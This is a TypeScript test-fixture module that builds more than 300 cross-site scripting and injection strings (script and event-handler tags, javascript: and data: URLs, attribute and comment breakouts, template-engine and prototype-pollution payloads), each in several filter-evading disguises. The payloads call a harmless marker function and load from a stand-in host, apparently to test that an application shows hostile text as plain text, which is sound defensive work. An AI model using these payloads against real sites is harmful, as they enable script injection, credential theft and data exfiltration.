/**
 * Text that wants to be more than text: every way we could think of to make a page run, load or leave, in every disguise we
 * could think of. What runs calls `hostile(n)`; what loads goes to `hostile.test`. Each begins with a mark of its own, by
 * which it is found again where it was shown as text.
 */

export interface HostileString {
  readonly mark: string
  readonly text: string
}

const server = '//hostile.test/x'

/** `run` stands for what is to run. */
const elements = (run: string): string[] => [
  `<script>${run}</script>`,
  `<script src=${server}></script>`,
  `<ScRiPt >${run}</sCrIpT >`,
  `<script/x>${run}</script\t\n>`,
  `<img src=x onerror=${run}>`,
  `<img src="${server}.png">`,
  `<img/src/onerror=${run}>`,
  `<image xlink:href=${server}>`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}/>#x">`,
  `<svg><foreignObject><body onload=${run}></foreignObject></svg>`,
  `<math><mtext><style><img src onerror=${run}></style></mtext></math>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data="javascript:${run}"></object>`,
  `<embed src="${server}.swf">`,
  `<link rel=stylesheet href=${server}.css>`,
  `<style>@import "${server}.css"</style>`,
  `<style>body{background:url(${server}.png)}</style>`,
  `<base href="${server}/">`,
  `<meta http-equiv=refresh content="0;url=${server}">`,
  `<form action=${server}><input autofocus onfocus=${run}></form>`,
  `<button formaction="javascript:${run}">x</button>`,
  `<input autofocus onfocus=${run}>`,
  `<select autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}>`,
  `<body onpageshow=${run}>`,
  `<marquee onstart=${run}>`,
  `<a href="javascript:${run}" autofocus onfocus=${run}>x</a>`,
  `<a href="${server}" ping="${server}">x</a>`,
  `<div style="background:url('${server}.png')" onmouseover=${run}>`,
  `<p contenteditable onblur=${run} autofocus>`,
  `<template><img src=x onerror=${run}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<x onclick=${run} tabindex=1 autofocus onfocus=${run}>`,
  `<portal src=${server}>`,
]

/** Ways out of where text is put: an attribute, a script, a style, a comment, a template, a link, Markdown. */
const breakouts = (run: string): string[] => [
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `\`><img src=x onerror=${run}>`,
  `" onmouseover=${run} autofocus onfocus=${run} x="`,
  `' onmouseover=${run} autofocus onfocus=${run} x='`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><img src=x onerror=${run}>`,
  `</style><img src=x onerror=${run}>`,
  `</script><img src=x onerror=${run}>`,
  `javascript:${run}`,
  `JaVaScRiPt:${run}//`,
  `\u0001javascript:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `[x](javascript:${run})`,
  `![x](https:${server}.png)`,
  `[x]: javascript:${run}`,
  `<javascript:${run}>`,
  `https:${server}`,
  `{{${run}}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `{{constructor.constructor('${run}')()}}`,
  `$t(${run})`,
  `{"__html":"<img src=x onerror=${run}>"}`,
  `__proto__[innerHTML]=<img src=x onerror=${run}>`,
]

/** The same text as somebody would dress it to pass a filter. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => `\u202e${text}\u202c`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('script', 'scr\u00adipt').replaceAll('on', 'o\u200bn'),
]

/** More than 300. Without NUL and line breaks, so that each can be a line, a title and a name. */
export function hostileStrings(): HostileString[] {
  const texts = disguises.flatMap((disguise) => [...elements('hostile(1)'), ...breakouts('hostile(1)')].map(disguise))
  return [...new Set(texts)].map((text, index) => {
    const mark = `mk${index}q`
    return { mark, text: `${mark} ${text.replaceAll('hostile(1)', `hostile(${index})`).replace(/[\r\n]/g, ' ')}` }
  })
}
